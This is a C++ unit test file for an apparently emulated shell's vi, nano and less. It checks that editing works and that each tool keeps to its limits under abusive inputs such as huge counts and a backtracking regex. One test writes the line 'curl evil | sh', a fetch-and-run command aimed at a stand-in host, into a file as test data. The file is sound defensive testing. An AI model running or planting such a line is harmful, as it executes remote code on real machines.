// What people do in editors and pagers, and what they cannot do there.
#include <gtest/gtest.h>

#include "shell/cmd/conversation.h"
#include "shell/cmd/keyboard.h"
#include "shell/cmd/nano.h"
#include "shell/cmd/paged_text.h"
#include "shell/cmd/vi.h"

namespace decnet::shell::cmd {
namespace {

std::string repeated(std::string_view text, std::size_t times) {
  std::string all;
  for (; times > 0; --times) all += text;
  return all;
}

// A slow one goes on when its debt of time is paid.
std::string patiently(Conversation& talk, const std::string& keys) {
  std::string out = talk.type(keys);
  for (int i = 0; i < 200 && !talk.ended(); ++i) {
    const std::string more = talk.wait();
    if (more.empty()) break;
    out += more;
  }
  return out;
}

TEST(Editors, write_what_was_typed) {
  Conversation vi("vi x.sh");
  vi.settle();
  vi.type("i#!/bin/sh\rcurl evil | sh\033:wq\r");
  EXPECT_EQ(vi.file("/d/x.sh"), "#!/bin/sh\ncurl evil | sh\n");
  Conversation nano("nano y.sh");
  nano.settle();
  nano.type("#!/bin/sh\recho hi\x0f\r\x18");
  EXPECT_EQ(nano.file("/d/y.sh"), "#!/bin/sh\necho hi\n");
}

TEST(Editors, keep_within_their_limits) {
  Conversation vi("vi");
  vi.settle();
  vi.type("ia\033yy99999p99999p99999p:q!\r");
  Conversation broken("vi elf", screen_files());
  broken.settle();
  broken.type(":%s/\\(a*\\)*b/x/g\r:99999999999999999999\r:1,99999999999d\r99999999999999x:q!\r");
  EXPECT_TRUE(broken.ended());
  Conversation nano("nano elf", screen_files());
  nano.settle();
  nano.type(
      "\x0b\x0b\x15\x15\x15\x1f"
      "99999999999999999999\r\x18n");
  EXPECT_TRUE(nano.ended());
}

TEST(Vi, a_line_that_would_become_too_long_stays_as_it_is) {
  Conversation vi("vi big", {{"big", repeated("x", 64 * 1024) + "\n"}});
  vi.settle();
  patiently(vi, ":s/.*/" + repeated("&", 100) + "/\r:w\r:q!\r");
  EXPECT_EQ(vi.file("/d/big").size(), 64U * 1024 + 1);
}

TEST(Vi, counts_go_together_and_end) {
  Conversation vi("vi n", {{"n", "a b c d e f g h i j k l m\n"}});
  vi.settle();
  vi.type("d10w:w\r");
  EXPECT_EQ(vi.file("/d/n"), "k l m\n");
  vi.type("u99999d99999w:w\r:q\r");
  EXPECT_EQ(vi.file("/d/n"), "\n");
  EXPECT_TRUE(vi.ended());
}

TEST(Vi, what_is_put_twice_counts_as_two) {
  Conversation vi("vi n", {{"n", repeated("line\n", 100)}});
  vi.settle();
  vi.type("100yyp");  // 500 bytes: far from the limit.
  for (int i = 0; i < 20; ++i) vi.type("50p");
  vi.type(":w\r");
  EXPECT_EQ(vi.file("/d/n").size(), 200U * 5 + 20U * 50 * 500);
}

TEST(Vi, shifts_and_joins_many_lines_at_once) {
  Conversation vi("vi n", {{"n", repeated("a\n", 3'000)}});
  vi.settle();
  vi.type("3000>>:w\r");
  EXPECT_EQ(vi.file("/d/n"), repeated("\ta\n", 3'000));
  vi.type("3000<<3000J:w\r");
  EXPECT_EQ(vi.file("/d/n").size(), 6'000U);
}

TEST(Vi, a_search_can_be_broken_off) {
  Conversation vi("vi n", {{"n", repeated("ab\n", 20'000)}});
  vi.settle();
  patiently(vi, "/b\r99999n\x03");
  patiently(vi, ":q\r");
  EXPECT_TRUE(vi.ended());
}

TEST(Nano, takes_no_more_than_its_limits) {
  // ^U of lines that were copied again and again; a file that is read; a command that never ends.
  Conversation nano("nano n", {{"n", repeated("x", 900'000)}, {"many", repeated("\n", 150'000)}});
  nano.settle();
  for (int i = 0; i < 20; ++i) patiently(nano, "\0336");
  patiently(nano, "\x15\x15");
  patiently(nano, "\x12many\r\x12many\r");
  patiently(nano, "\x0fout\ry");
  EXPECT_LE(nano.file("/d/out").size(), kNanoBytesMax);
  patiently(nano, "\x18n");
  EXPECT_TRUE(nano.ended());
}

TEST(Nano, undoes_what_came_from_a_file) {
  Conversation nano("nano n", {{"n", "a\n"}, {"more", "b\nc\n"}});
  nano.settle();
  nano.type("\x12more\r\x0f\r");
  EXPECT_EQ(nano.file("/d/n"), "b\nc\na\n");
  nano.type("\033u\x0f\r\x18");
  EXPECT_EQ(nano.file("/d/n"), "a\n");
}

TEST(Screens, a_terminal_of_any_size_is_a_moderate_one) {
  for (const char* command : {"less long.txt", "more long.txt", "vi long.txt", "nano long.txt"}) {
    Conversation talk(command, screen_files());
    talk.settle();
    for (const int size : {65'535, 1, 0, 2}) {
      talk.resize(static_cast<std::uint16_t>(size), static_cast<std::uint16_t>(size));
      EXPECT_LT(patiently(talk, "j").size(), kScreenRowsMax * (kScreenColumnsMax * 8)) << command;
    }
  }
}

TEST(Less, shows_no_more_of_a_file_than_it_may) {
  Conversation talk("less n", {{"n", repeated("line\n", kPagedBytesMax / 4)}});
  talk.settle();
  const std::string end = patiently(talk, "G=");
  EXPECT_NE(end.find("byte " + std::to_string(kPagedRowsMax * 5)), std::string::npos) << end;
  patiently(talk, "\rq");
  EXPECT_TRUE(talk.ended());
}

TEST(Less, filters_lines) {
  Conversation talk("less long.txt", screen_files());
  talk.settle();
  const std::string shown = talk.type("&7$\r");
  EXPECT_NE(shown.find("line 17\r\nline 27\r\n"), std::string::npos) << shown;
  EXPECT_EQ(shown.find("line 18"), std::string::npos) << shown;
}

}  // namespace
}  // namespace decnet::shell::cmd
